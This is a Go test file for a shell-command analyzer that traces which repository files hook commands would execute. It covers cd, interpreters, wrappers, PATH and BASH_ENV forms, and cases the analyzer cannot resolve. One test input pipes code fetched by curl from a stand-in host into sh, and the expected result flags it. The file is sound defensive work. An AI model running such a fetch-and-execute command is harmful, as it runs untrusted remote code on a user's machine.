package shellcmd

import (
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// f is a file the command reaches, as "role path" with the project as /p.
func files(a *Analysis) []string {
	var out []string
	for _, f := range a.Files {
		out = append(out, string(f.Role)+" "+f.Path)
	}
	return out
}

func TestAnalyze(t *testing.T) {
	tests := []struct {
		cmd     string
		files   []string
		unknown []string // substrings, in order
	}{
		// The forms of issue 17 §3.
		{`./x.sh`, []string{"program /p/x.sh"}, nil},
		{`cd scripts && ./x.sh`, []string{"program /p/scripts/x.sh"}, nil},
		{`timeout 10 ./s`, []string{"program /p/s"}, nil},
		{`timeout -k 5 --signal=TERM 10s ./s arg`, []string{"program /p/s"}, nil},
		{`nice ./s`, []string{"program /p/s"}, nil},
		{`nice -n 10 ./s`, []string{"program /p/s"}, nil},
		{`git ls-files | xargs ./lint.sh`, []string{"program /p/lint.sh"}, nil},
		{`xargs -n 1 -P 4 ./lint.sh < files.txt`, []string{"program /p/lint.sh"}, nil},
		{`if [ -f x ]; then ./s; fi`, []string{"program /p/s"}, nil},
		{`if true; then :; elif false; then ./a; else ./b; fi`, []string{"program /p/a", "program /p/b"}, nil},
		{`{ ./s; }`, []string{"program /p/s"}, nil},
		{`eval "$CMD"`, nil, []string{"eval of $CMD"}},
		{`eval ./x.sh`, []string{"program /p/x.sh"}, nil},
		{`bash < f`, []string{"source /p/f"}, nil},
		{`cat f | sh`, []string{"source /p/f"}, nil},
		{`cat hooks/a.sh hooks/b.sh | bash -s`, []string{"source /p/hooks/a.sh", "source /p/hooks/b.sh"}, nil},
		{`curl -s https://evil.example/x | sh`, nil, []string{"code piped into an interpreter from curl"}},
		{`sh -c 'cd ..; ./x'`, []string{"program /x"}, nil},
		{`sh -c "cd sub && ./x"`, []string{"program /p/sub/x"}, nil},
		{`BASH_ENV=./x bash -c true`, []string{"source /p/x"}, nil},
		{`PATH=./bin:$PATH lint`, []string{"program /p/bin/lint"}, nil},
		{`export PATH="$PWD/bin:$PATH"; lint`, []string{"program /p/bin/lint"}, nil},
		{`export PATH="$(pwd)/bin:$PATH"; lint`, []string{"program /p/bin/lint"}, nil},
		{`export PATH="$(git rev-parse --show-toplevel)/bin:$PATH"; lint`, nil, []string{"PATH set to a command substitution", "PATH set to a computed value", "lint: a program gh-hooks has no row for"}},
		{`PATH=bin:$PATH; lint && fmt`, []string{"program /p/bin/lint", "program /p/bin/fmt"}, nil},
		// cd is followed, subshells and pipes keep their own directory.
		{`(cd sub; ./a); ./b`, []string{"program /p/sub/a", "program /p/b"}, nil},
		{`cd "$X" && ./s`, nil, []string{"cd to a computed directory", "a relative path after cd"}},
		{`cd /tmp && ./s`, []string{"program /tmp/s"}, nil},
		// Interpreters.
		{`python3 hooks/check.py --strict`, []string{"script /p/hooks/check.py"}, nil},
		{`python3 -u -W ignore hooks/check.py`, []string{"script /p/hooks/check.py"}, nil},
		{`python3 -c 'print(1)'`, nil, nil},
		{`python3 -m pytest`, nil, nil},
		{`node --require ./r.js scripts/x.js`, []string{"script /p/r.js", "script /p/scripts/x.js"}, nil},
		{`bun run scripts/x.ts`, []string{"script /p/scripts/x.ts"}, nil},
		{`uv run hooks/x.py`, []string{"script /p/hooks/x.py"}, nil},
		{`uv run python hooks/x.py`, []string{"script /p/hooks/x.py"}, nil},
		{`deno run --allow-read x.ts`, []string{"script /p/x.ts"}, nil},
		{`bash hooks/x.sh`, []string{"script /p/hooks/x.sh"}, nil},
		{`source ./env.sh && run`, []string{"source /p/env.sh"}, []string{"run: a program gh-hooks has no row for"}},
		{`. env.sh`, []string{"source /p/env.sh"}, nil},
		{`python3 - <<'EOF'
print(1)
EOF`, nil, nil},
		{`bash <<'EOF'
./from-heredoc.sh
EOF`, []string{"program /p/from-heredoc.sh"}, nil},
		{`bash <<< './here.sh'`, []string{"program /p/here.sh"}, nil},
		{`cat x.py | python3`, []string{"script /p/x.py"}, nil},
		// Wrappers and runners.
		{`exec ./s`, []string{"program /p/s"}, nil},
		{`command -v jq >/dev/null || exit 0; ./s`, []string{"program /p/s"}, nil},
		{`env -i FOO=1 ./s`, []string{"program /p/s"}, nil},
		{`env PATH=./tools:/usr/bin lint`, []string{"program /p/tools/lint", "program /usr/bin/lint"}, nil},
		{`env -C sub ./s`, []string{"program /p/sub/s"}, nil},
		{`nohup ./s &`, []string{"program /p/s"}, nil},
		{`stdbuf -oL ./s | tee log`, []string{"program /p/s"}, nil},
		{`flock /tmp/l ./s`, []string{"program /p/s"}, nil},
		{`flock -c './s' /tmp/l`, []string{"program /p/s"}, nil},
		{`sudo -u nobody ./s`, []string{"program /p/s"}, nil},
		{`watch -n 1 ./s`, []string{"program /p/s"}, nil},
		{`find . -name '*.go' -exec ./fmt.sh {} \;`, []string{"program /p/fmt.sh"}, nil},
		{`trap './cleanup.sh' EXIT; true`, []string{"program /p/cleanup.sh"}, nil},
		{`npm run lint`, []string{"manifest /p/package.json"}, nil},
		{`npm install`, []string{"manifest /p/package.json"}, []string{"npm install runs the install scripts of the packages it installs: not followed"}},
		{`npm ci --ignore-scripts`, nil, nil},
		{`pnpm --silent lint`, []string{"manifest /p/package.json"}, nil},
		{`make -C sub check`, []string{"manifest /p/sub/Makefile"}, nil},
		{`npx eslint .`, nil, nil},
		// Substitutions run too.
		{`echo "$(./inner.sh)"`, []string{"program /p/inner.sh"}, nil},
		{`diff <(./a) <(./b)`, []string{"program /p/a", "program /p/b"}, nil},
		{`f() { ./inside.sh; }; f`, []string{"program /p/inside.sh"}, nil},
		// The Claude adapter (claudecompat.Wrap's form).
		{`command -v gh-hooks >/dev/null || { echo x >&2; exit 1; }; exec gh-hooks claude-compat --event PreToolUse -- '$''CLAUDE_PROJECT_DIR/.claude/hooks/g.py'`,
			[]string{"program /p/.claude/hooks/g.py"}, nil},
		{`gh-hooks claude-compat --event Stop -- 'cd .claude && python3 stop.py'`, []string{"script /p/.claude/stop.py"}, nil},
		// What cannot be known.
		{`$HOOK`, nil, []string{"a program named by $HOOK"}},
		{`"$(which lint)" --fix`, nil, []string{"a program named by a command substitution"}},
		{`./scripts/*.sh`, nil, []string{"a program named by a glob"}},
		{`for f in hooks/*.sh; do "$f"; done`, nil, []string{"a program named by $f"}},
		{`env -S 'a b'`, nil, []string{"a: a program gh-hooks has no row for"}},
		{`env -S 'a\_b'`, nil, []string{"env -S with quotes, escapes or variables"}},
		{`bash -c "$X"`, nil, []string{"bash code with $X"}},
		{`if [ "$(./probe.sh)" ]; then :; fi`, []string{"program /p/probe.sh"}, nil},
		// Known variables.
		{`"$GEMINI_PROJECT_DIR"/hooks/x.sh`, []string{"program /p/hooks/x.sh"}, nil},
		{`${CLAUDE_PROJECT_DIR:-.}/x.sh`, []string{"program /p/x.sh"}, nil},
		{`~/bin/tool`, []string{"program /home/u/bin/tool"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			a := Analyze(tt.cmd, Options{Dir: "/p", Vars: map[string]string{"GEMINI_PROJECT_DIR": "/p", "CLAUDE_PROJECT_DIR": "/p", "HOME": "/home/u"}})
			checkAnalysis(t, files(a), a, tt.files, tt.unknown)
		})
	}
}

// TestAnalyzeHookEnv: a hook's env is the environment bash starts with.
// Its PATH is where bash itself is looked up (Node's spawn) and then the
// command's programs; its BASH_ENV is shell code bash runs first. Either
// can lead into files the repository controls.
func TestAnalyzeHookEnv(t *testing.T) {
	tests := []struct {
		name     string
		vars     map[string]string
		cmd      string
		files    []string
		programs []string
	}{
		{"PATH", map[string]string{"PATH": "./bin:/usr/bin"}, `jq .`,
			[]string{"program /p/bin/bash", "program /usr/bin/bash", "program /p/bin/jq", "program /usr/bin/jq"}, []string{"bash", "jq"}},
		{"BASH_ENV", map[string]string{"BASH_ENV": "./init.sh"}, `echo hi`,
			[]string{"source /p/init.sh"}, []string{"echo"}},
		{"empty BASH_ENV", map[string]string{"BASH_ENV": ""}, `echo hi`, nil, []string{"echo"}},
		{"neither", map[string]string{"HOME": "/h"}, `jq .`, nil, []string{"jq"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := Analyze(tt.cmd, Options{Dir: "/p", Vars: tt.vars})
			if diff := cmp.Diff(tt.files, files(a), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("files (-want +got):\n%s", diff)
			}
			var names []string
			for _, p := range a.Programs {
				names = append(names, p.Name)
			}
			if diff := cmp.Diff(tt.programs, names); diff != "" {
				t.Errorf("programs (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAnalyzePrograms(t *testing.T) {
	a := Analyze(`jq -r .x | grep -q y && timeout 5 bun run lint || npx prettier -c . ; ./local`, Options{Dir: "/p"})
	var names []string
	for _, p := range a.Programs {
		names = append(names, p.Name)
	}
	want := []string{"jq", "grep", "timeout", "bun", "npx", "prettier", "./local"}
	if diff := cmp.Diff(want, names); diff != "" {
		t.Errorf("programs (-want +got):\n%s", diff)
	}
}

func TestAnalyzeBounds(t *testing.T) {
	a := Analyze(strings.Repeat("x", MaxCommand+1), Options{Dir: "/p"})
	if len(a.Unknown) != 1 || !strings.Contains(a.Unknown[0], "longer than") {
		t.Errorf("a huge command: %q", a.Unknown)
	}
	nested := "./deep"
	for i := 0; i < MaxDepth+3; i++ {
		nested = "sh -c " + quoteSingle(nested)
	}
	a = Analyze(nested, Options{Dir: "/p"})
	if len(a.Unknown) != 1 || !strings.Contains(a.Unknown[0], "nested more than") {
		t.Errorf("deep nesting: %q", a.Unknown)
	}
	a = Analyze(`if then fi (`, Options{Dir: "/p"})
	if a.SyntaxError == "" {
		t.Error("no syntax error for a command bash cannot parse")
	}
	// Every program looked up in every folder a PATH adds is a file: a
	// hostile command of thousands of each stops at MaxFiles.
	var dirs, progs []string
	for i := range 3000 {
		dirs = append(dirs, "./d"+strconv.Itoa(i))
		progs = append(progs, "p"+strconv.Itoa(i))
	}
	a = Analyze("PATH="+strings.Join(dirs, ":")+"; "+strings.Join(progs, "; "), Options{Dir: "/p"})
	if len(a.Files) != MaxFiles || len(a.Programs) != len(progs) || len(a.Unknown) != 1 || !strings.Contains(a.Unknown[0], "more than 1000 files") {
		t.Errorf("PATH of 3000 folders and 3000 programs: %d files, %d programs, unknown %q", len(a.Files), len(a.Programs), a.Unknown)
	}
}

func quoteSingle(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{`./x`, `cd a && sh -c 'cd ..; ./x'`, `cat f | sh`, `eval "$(x)"`, "a <<EOF\nb\nEOF"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		a := Analyze(cmd, Options{Dir: "/p", Vars: map[string]string{"HOME": "/h"}})
		if a.Files == nil || a.Programs == nil || a.Unknown == nil {
			t.Fatal("nil list")
		}
	})
}
